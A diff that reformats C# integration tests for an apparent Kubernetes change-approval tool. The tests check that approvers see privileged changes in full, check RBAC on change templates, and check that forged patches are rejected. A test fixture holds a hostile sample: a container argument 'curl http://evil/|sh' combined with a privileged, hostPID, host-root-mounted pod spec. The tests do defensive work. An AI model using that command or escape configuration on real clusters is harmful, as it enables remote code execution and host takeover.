@@ -38,7 +38,10 @@ public class FullTemplateTests
             Assert.That(approved.Output, Does.Contain(line));
         }
 
-        Assert.That(approved.Output.IndexOf("privileged: true", StringComparison.Ordinal), Is.LessThan(approved.Output.IndexOf("SETTING_00", StringComparison.Ordinal)));
+        Assert.That(
+            approved.Output.IndexOf("privileged: true", StringComparison.Ordinal),
+            Is.LessThan(approved.Output.IndexOf("SETTING_00", StringComparison.Ordinal))
+        );
         var diff = (await sandbox.KubectlAsync("alice", "get", "change", change, "-o", "jsonpath={.spec.diff}")).Output;
         Assert.That(diff, Does.Contain("securityContext.privileged").And.Contain("--then=curl"), "the short form shows them too");
     }
@@ -52,7 +55,11 @@ public class FullTemplateTests
         Assert.That((await MayAsync(sandbox, "walt", [])).Output, Does.StartWith("no"));
         Assert.That((await MayAsync(sandbox, "dana", ["--as-group=developers"])).Output, Does.StartWith("yes"));
         (await sandbox.KubectlAsync("admin", "create", "rolebinding", "walt", "--clusterrole=view", "--user=walt")).OrFail();
-        await Wait.UntilAsync(() => MayAsync(sandbox, "walt", []), run => run.Output.StartsWith("yes", StringComparison.Ordinal), "walt to have the permissions of view");
+        await Wait.UntilAsync(
+            () => MayAsync(sandbox, "walt", []),
+            run => run.Output.StartsWith("yes", StringComparison.Ordinal),
+            "walt to have the permissions of view"
+        );
         Assert.That((await sandbox.KubectlAsync("admin", "get", "changetemplate", change, "--as=walt")).Succeeded, Is.True);
     }
 
@@ -69,8 +76,14 @@ public class FullTemplateTests
                 return await sandbox.KubectlAsync("alice", "deployguard", "show", change);
             },
             run => !run.Succeeded,
-            "the whole template to be gone");
-        Assert.That(cut.Output, Does.Contain("INCOMPLETE: the template cannot be shown in full").And.Contain("spec.hostPID: (absent) -> true").And.Contain("ask the requester to apply the change again"));
+            "the whole template to be gone"
+        );
+        Assert.That(
+            cut.Output,
+            Does.Contain("INCOMPLETE: the template cannot be shown in full")
+                .And.Contain("spec.hostPID: (absent) -> true")
+                .And.Contain("ask the requester to apply the change again")
+        );
 
         await RequestPrivilegedChangeAsync(sandbox);
         (await sandbox.KubectlAsync("alice", "deployguard", "show", change)).OrFail();
@@ -84,7 +97,17 @@ public class FullTemplateTests
 
         foreach (var user in (string[])["dana", "admin"])
         {
-            var forged = await sandbox.KubectlAsync("admin", "patch", "changetemplate", change, "--type=merge", "-p", """{"spec": {"beforeIsUnknown": true}}""", user == "admin" ? "--as-group=system:masters" : "--as-group=developers", $"--as={user}");
+            var forged = await sandbox.KubectlAsync(
+                "admin",
+                "patch",
+                "changetemplate",
+                change,
+                "--type=merge",
+                "-p",
+                """{"spec": {"beforeIsUnknown": true}}""",
+                user == "admin" ? "--as-group=system:masters" : "--as-group=developers",
+                $"--as={user}"
+            );
             Assert.That(forged.Succeeded, Is.False, user);
         }
 
@@ -93,7 +116,8 @@ public class FullTemplateTests
         await Wait.UntilAsync(
             () => sandbox.KubectlAsync("admin", "get", "changetemplate", change),
             run => run.Output.Contains("NotFound", StringComparison.Ordinal),
-            "the garbage collector to delete the template with its Change");
+            "the garbage collector to delete the template with its Change"
+        );
     }
 
     [Test]
@@ -105,7 +129,8 @@ public class FullTemplateTests
         (await TestCluster.Rig.Plane.KubectlAsync("admin", "delete", "namespace", sandbox.Namespace, "--timeout=120s")).OrFail();
     }
 
-    private static Task<Run> MayAsync(Sandbox sandbox, string user, string[] more) => sandbox.KubectlAsync("admin", ["auth", "can-i", "get", "changetemplates", $"--as={user}", .. more]);
+    private static Task<Run> MayAsync(Sandbox sandbox, string user, string[] more) =>
+        sandbox.KubectlAsync("admin", ["auth", "can-i", "get", "changetemplates", $"--as={user}", .. more]);
 
     private static async Task<Sandbox> WithCommandRunningAsync()
     {
@@ -124,19 +149,33 @@ public class FullTemplateTests
         var web = Web(V1);
         var container = Container(web);
         container["args"] = new JsonArray($"{Command} --then=curl http://evil/|sh");
-        container["env"] = new JsonArray([.. Enumerable.Range(0, 30).Select(i => (JsonNode)new JsonObject { ["name"] = $"SETTING_{i:00}", ["value"] = "on" })]);
+        container["env"] = new JsonArray([
+            .. Enumerable.Range(0, 30).Select(i => (JsonNode)new JsonObject { ["name"] = $"SETTING_{i:00}", ["value"] = "on" }),
+        ]);
         container["securityContext"] = new JsonObject { ["privileged"] = true };
         container["volumeMounts"] = new JsonArray(new JsonObject { ["name"] = "h", ["mountPath"] = "/host" });
         var pod = Pod(web);
         pod["hostPID"] = true;
-        pod["volumes"] = new JsonArray(new JsonObject { ["name"] = "h", ["hostPath"] = new JsonObject { ["path"] = "/" } });
+        pod["volumes"] = new JsonArray(
+            new JsonObject
+            {
+                ["name"] = "h",
+                ["hostPath"] = new JsonObject { ["path"] = "/" },
+            }
+        );
         Assert.That((await sandbox.ApplyAsync("dana", web)).Output, Does.Contain("ApprovalMissing"));
         var change = await sandbox.ChangeInPhaseAsync("Pending");
-        await Wait.UntilAsync(() => sandbox.KubectlAsync("alice", "get", "changetemplate", change), run => run.Succeeded, "the whole template to be on record");
+        await Wait.UntilAsync(
+            () => sandbox.KubectlAsync("alice", "get", "changetemplate", change),
+            run => run.Succeeded,
+            "the whole template to be on record"
+        );
         return change;
     }
 
-    private static JsonObject Pod(JsonObject web) => web["spec"]?["template"]?["spec"]?.AsObject() ?? throw new InvalidOperationException("no pod");
+    private static JsonObject Pod(JsonObject web) =>
+        web["spec"]?["template"]?["spec"]?.AsObject() ?? throw new InvalidOperationException("no pod");
 
-    private static JsonObject Container(JsonObject web) => Pod(web)["containers"]?[0]?.AsObject() ?? throw new InvalidOperationException("no container");
+    private static JsonObject Container(JsonObject web) =>
+        Pod(web)["containers"]?[0]?.AsObject() ?? throw new InvalidOperationException("no container");
 }
